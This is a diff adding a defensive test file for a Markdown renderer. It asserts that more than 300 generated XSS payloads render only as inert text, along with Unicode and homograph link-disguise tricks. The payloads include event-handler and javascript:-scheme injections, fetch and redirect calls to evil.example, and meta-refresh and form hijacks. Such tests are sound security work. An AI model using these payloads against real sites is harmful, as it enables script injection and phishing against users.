@@ -1,0 +1,64 @@
+// Whatever others write, the page shows it and does nothing else with it.
+import { renderToStaticMarkup } from "react-dom/server";
+import { expect, test } from "vitest";
+
+import Markdown from "./Markdown.tsx";
+
+const shown = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
+
+/** Everything that may come of a text: these elements, and of attributes only what a link and a direction need. */
+const ELEMENT = /^<\/?(p|ul|ol|li|blockquote|h3|table|thead|tbody|tr|th|td|strong|em|s|br|hr|code|pre|a|bdi|span)(?: (?:dir|target|rel|class)="[a-z _]+"| href="(?:https?:\/\/|mailto:)[^"]*")*\/?>$/;
+
+function refused(markup: string): string[] {
+  return (markup.match(/<[^>]*>?/g) ?? []).filter((element) => !ELEMENT.test(element));
+}
+
+const CODE = ["alert(1)", "fetch('//evil.example')", "top.location='//evil.example'"];
+const HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerdown"];
+const ELEMENTS = ["img src=x", "svg", "body", "input autofocus", "details open", "video><source", "iframe srcdoc=x", "a href=#", "math", "marquee"];
+const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "\u0001javascript:", "data:text/html,", "vbscript:", "blob:", "file:///", "//evil.example/", "ftp://", "intent://"];
+
+const PAYLOADS = [
+  ...ELEMENTS.flatMap((element) => HANDLERS.flatMap((handler) => CODE.map((code) => `<${element} ${handler}="${code}">`))),
+  ...SCHEMES.flatMap((scheme) => CODE.flatMap((code) => [`[here](${scheme}${code})`, `![x](${scheme}${code})`, `<${scheme}${code}>`, `[x]: ${scheme}${code}\n\n[x]`])),
+  ...CODE.flatMap((code) => [`<script>${code}</script>`, `<style>@import '//evil.example'</style>`, `</span><script>${code}</script>`, `\`\`\`html\n<script>${code}</script>\n\`\`\``]),
+  `[x](https://example.org/"onmouseover="alert(1))`,
+  `[x](<https://example.org/" onclick="alert(1)>)`,
+  `<meta http-equiv=refresh content="0;url=//evil.example">`,
+  `<base href="//evil.example/">`,
+  `<link rel=stylesheet href=//evil.example>`,
+  `<form action=//evil.example><button>`,
+  `<!--><img src=x onerror=alert(1)>-->`,
+  `<![CDATA[<script>alert(1)</script>]]>`,
+  `| a |\n|---|\n| <img src=x onerror=alert(1)> |`,
+];
+
+test("none of the injections becomes more than text", () => {
+  expect(PAYLOADS.length).toBeGreaterThanOrEqual(300);
+  for (const payload of PAYLOADS) expect(refused(shown(payload)), payload).toEqual([]);
+});
+
+test("the judge of that is not blind", () => {
+  for (const bad of ["<script>", '<img src="x"/>', '<p onclick="x">', '<a href="javascript:x">', '<p style="color:red">']) {
+    expect(refused(bad), bad).toEqual([bad]);
+  }
+});
+
+test("letters that deceive stay in their paragraph and never hide where a link leads", () => {
+  const tricks = ["\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "e\u0301".repeat(50), "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}"];
+  for (const trick of tricks) {
+    const markup = shown(`${trick}[${trick}bank.example](https://evil.example/)`);
+    expect(markup, trick).toContain('<p dir="auto">');
+    expect(markup, trick).toMatch(/\(<\/?[^>]*>?evil\.example|<bdi[^>]*>\(evil\.example\)<\/bdi>/);
+  }
+  expect(shown("[bank](https://bаnk.example/)"), "a homograph shows as what it is").toContain("xn--");
+});
+
+test("what people use works", () => {
+  expect(shown("**a** _b_ ~~c~~ `d`\ne")).toBe(
+    '<p dir="auto"><strong>a</strong> <em>b</em> <s>c</s> <code>d</code><br/>e</p>',
+  );
+  expect(shown("1. a\n2. b")).toContain("<ol><li");
+  expect(shown("# a")).toBe('<h3 dir="auto">a</h3>');
+  expect(shown("[x](mailto:a@example.org)")).toContain('href="mailto:a@example.org"');
+});
